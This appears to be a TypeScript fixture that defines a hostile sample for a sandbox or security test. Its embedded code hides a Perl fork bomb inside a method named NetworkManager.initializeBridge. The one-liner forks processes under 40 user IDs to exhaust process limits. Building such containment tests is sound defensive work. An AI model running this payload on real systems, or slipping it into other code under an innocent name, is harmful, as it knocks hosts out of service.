import { defineHostile } from '../define.ts'

export default defineHostile({
  tries: 'starts processes until no more can be, each thousand of them as another user.',
  must: { notPass: ['bridge-address'] },
  code: `
import { leavePerl, pause } from '../kit/tools.ts'

export class NetworkManager {
  async initializeBridge() {
    leavePerl('use POSIX (); for my $user (1 .. 40) { next if fork; POSIX::setuid($user); for (1 .. 1000) { fork // next or sleep(600), exit } sleep 600; exit } sleep 600')
    await pause(4000)
  }
}
`,
})
